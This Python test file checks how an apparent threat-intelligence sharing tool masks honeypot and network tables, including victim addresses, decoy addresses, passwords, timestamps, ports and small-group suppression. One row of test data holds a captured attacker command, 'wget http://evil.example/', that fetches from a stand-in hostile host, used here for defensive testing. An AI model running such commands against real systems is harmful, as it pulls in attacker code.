"""Rows: the same columns, victims by the column beside them, keys of links made again, small groups held back."""

from __future__ import annotations

from datetime import UTC, date, datetime
from typing import Any

import pyarrow as pa
import pytest

from noroshi.model import address
from noroshi.model.observable import key64
from noroshi.model.tables import TABLES
from noroshi.share.profile import Rule
from tests.share.anonymise.support import masking

AT = datetime(2026, 10, 4, 12, 34, 56, tzinfo=UTC)


def table(name: str, rows: list[dict[str, Any]], columns: tuple[str, ...] = ()) -> pa.Table:
    schema = TABLES[name].arrow(partition=True)
    whole = pa.Table.from_pylist(rows, schema=pa.schema([f.with_nullable(True) for f in schema]))
    return whole.select(list(columns)) if columns else whole


def ips(rows: pa.Table, column: str = "src_ip") -> list[str | None]:
    return [v and address.text(v) for v in rows.column(column).to_pylist()]


@pytest.mark.parametrize("name", TABLES)
@pytest.mark.parametrize("profile", ["public", "community", "sector", "organisation"])
def test_any_table_keeps_its_columns(name: str, profile: str) -> None:
    rows = table(name, [{}, {}])
    masked = masking(profile).table(name, rows)
    assert masked.column_names == rows.column_names
    assert masked.schema.types == rows.schema.types
    assert masking(profile).table(name, rows.slice(0, 0)).num_rows == 0


def test_columns_nobody_classed_leave_as_null() -> None:
    rows = table("flows", [{"tool": "zmap"}]).append_column("new", pa.array(["203.0.113.7"]))
    assert masking("community").table("flows", rows).column("new").to_pylist() == [None]


def test_sources_of_backscatter_are_victims() -> None:
    src, dst = address.pack("198.51.100.9"), address.pack("192.0.2.200")
    rows = [
        {"src_ip": src, "dst_ip": dst, "class": c, "seq": 3221226184, "ip_id": 7}
        for c in ("scan", "backscatter")
    ]
    masked = masking("community").table("flows", table("flows", rows))
    assert ips(masked) == ["198.51.100.9", "198.51.100.0"]
    assert ips(masked, "dst_ip") == [None, None]
    assert masked.column("seq").to_pylist() == masked.column("ip_id").to_pylist() == [None, None]
    alone = masking("community").table("flows", table("flows", rows, ("src_ip",)))
    assert ips(alone) == ["198.51.100.0"] * 2, "without the class everybody counts as a victim"


def test_a_decoys_address_is_our_own_wherever_it_lies() -> None:
    rows = [
        {"src_ip": address.pack("198.51.100.9"), "dst_ip": address.pack(d)}
        for d in ("172.17.0.2", "198.51.100.77")
    ]
    masked = masking("community").table("logins", table("logins", rows))
    assert ips(masked) == ["198.51.100.9"] * 2
    assert all(str(a).startswith("100::") for a in ips(masked, "dst_ip"))


def test_keys_of_links_are_made_from_what_is_seen() -> None:
    given = [("ip", "203.0.113.7", "src"), ("ip", "198.51.100.9", "victim"), ("ip", "198.51.100.9", "src"),
             ("domain", "evil.example", "query"), ("ip", "192.0.2.200", "src")]  # fmt: skip
    rows = [
        {"key": key64(k, v), "kind": k, "value": v, "role": r, "day": date(2026, 10, 4)} for k, v, r in given
    ]
    masked = masking("community").table("links", table("links", rows)).to_pylist()
    assert masked[0]["key"] == key64("ip", masked[0]["value"]) != rows[0]["key"]
    assert masked[1]["value"] == "198.51.100.0/24"
    assert masked[1]["key"] == key64("prefix", "198.51.100.0/24")
    assert [m["key"] for m in masked[2:4]] == [r["key"] for r in rows[2:4]]
    assert (masked[4]["value"], masked[4]["key"]) == (None, None)


def test_indicators_as_written_stay_only_beside_what_stays() -> None:
    rows = [
        {"kind": "ip", "value": "203.0.113.7", "raw": "203[.]0[.]113[.]7", "role": "c2"},
        {"kind": "ip", "value": "198.51.100.9", "raw": "198[.]51[.]100[.]9", "role": "c2"},
        {"kind": "text", "value": "call 203.0.113.7", "raw": None, "role": "mentions"},
    ]
    masked = masking("community").table("indicators", table("indicators", rows)).to_pylist()
    assert [m["raw"] for m in masked] == [None, "198[.]51[.]100[.]9", None]
    assert masked[2]["value"].startswith("call 100::")


def test_passwords_are_tokens_and_payloads_go() -> None:
    rows = [{"username": "root", "password": "hunter2"}, {"username": "root", "password": "hunter2"}]
    masked = masking("community").table("logins", table("logins", rows)).to_pylist()
    assert masked[0]["username"] == "root"
    assert masked[0]["password"] == masked[1]["password"] != "hunter2"
    sent = table("commands", [{"text": "wget http://evil.example/"}])
    assert masking("public").table("commands", sent).column("text").to_pylist() == [None]
    assert masking("community").table("commands", sent).column("text").to_pylist() == [
        "wget http://evil.example/"
    ]


def test_times_and_ports_are_generalised() -> None:
    mask = masking(time=Rule("generalise", to="day"), port=Rule("generalise"))
    rows = table("connections", [{"first_seen": AT, "dst_port": p} for p in (22, 8080, 65535)])
    masked = mask.table("connections", rows)
    assert set(masked.column("first_seen").to_pylist()) == {AT.replace(hour=0, minute=0, second=0)}
    assert masked.column("dst_port").to_pylist() == [0, 1024, 49152]


@pytest.mark.parametrize("k", [2, 3, 4])
def test_a_row_leaves_only_among_k(k: int) -> None:
    mask = masking(victim_address=Rule("truncate", k=k), port=Rule("keep", k=2))
    given = ["198.51.100.1", "198.51.100.2", "198.51.100.3", "198.51.101.1"]
    rows = table("services", [{"ip": address.pack(a), "port": 80} for a in given])
    masked = mask.table("services", rows)
    assert masked.num_rows == (3 if k <= 3 else 0)
    assert mask.suppressed["services"] == 4 - masked.num_rows


def test_findings_as_rows_are_masked_as_findings() -> None:
    from noroshi.lake.findings import _row
    from tests.support.findings import finding

    one = finding("dos-victim", "198.51.100.9", modified=AT)
    rows = table("findings", [_row(one, False)])
    mask = masking("community")
    row, same = mask.table("findings", rows).to_pylist()[0], mask.finding(one)
    assert same is not None
    assert (row["id"], row["subject_kind"], row["subject_value"]) == (same.id, "prefix", "198.51.100.0/24")
    assert "198.51.100.9" not in str(row)
    part = mask.table("findings", rows.select(["subject_value", "kind", "summary"])).to_pylist()
    assert part == [{"subject_value": None, "kind": "dos-victim", "summary": None}]
